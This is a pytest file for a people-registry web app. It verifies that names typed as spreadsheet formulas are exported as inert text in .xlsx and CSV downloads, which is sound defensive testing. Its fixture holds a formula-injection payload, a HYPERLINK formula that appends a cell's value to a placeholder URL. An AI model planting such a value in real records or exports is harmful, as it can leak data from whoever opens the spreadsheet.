"""Registry exports are safe to open (M4): a name that is a formula comes back as text, in .xlsx
and CSV, through the same job and download a clerk uses."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from fpa.core.models import Job
from fpa.people import positions_services, services
from tests.conftest import actor_of
from tests.people.conftest import id_for

ATTACK = '=HYPERLINK("http://x"&A1,"点击")'


@pytest.fixture
def attacker(users, tree):
    """A person whose name a pentester typed as a formula, member and volunteer in 湖湾村."""
    actor = actor_of(users["county"])
    village = tree["430121001001"]
    person = services.register_person(
        {"name": ATTACK, "id_number": id_for("430121", seq=70), "org": village}, actor=actor
    )
    services.join(person, village, datetime.date(2021, 5, 29), actor=actor)
    positions_services.add_position(
        "volunteer", person, {"org": village, "since": datetime.date(2021, 1, 1)}, actor=actor
    )
    return person


def _exported(client, kind: str, fmt: str) -> bytes:
    assert client.post(f"/people/export/{kind}/", {"format": fmt}).status_code == 302
    job = Job.unscoped_objects.filter(params__format=fmt).latest("created_at")
    assert job.status == "done", job.message
    return b"".join(client.get(f"/jobs/{job.pk}/download/").streaming_content)


@pytest.mark.parametrize("kind", ["persons", "members", "volunteer"])
def test_a_formula_typed_as_a_name_is_exported_as_text_in_xlsx(attacker, users, client_for, kind):
    sheet = load_workbook(io.BytesIO(_exported(client_for(users["county"]), kind, "xlsx"))).active
    header, *rows = list(sheet.iter_rows())
    name = [row[[c.value for c in header].index("姓名")] for row in rows]
    assert [(c.value, c.data_type, c.quotePrefix) for c in name] == [(ATTACK, "s", True)]


@pytest.mark.parametrize("kind", ["persons", "members", "volunteer"])
def test_a_formula_typed_as_a_name_is_exported_after_an_apostrophe_in_csv(
    attacker, users, client_for, kind
):
    data = _exported(client_for(users["county"]), kind, "csv").decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(data)))
    assert [row[header.index("姓名")] for row in rows] == ["'" + ATTACK]
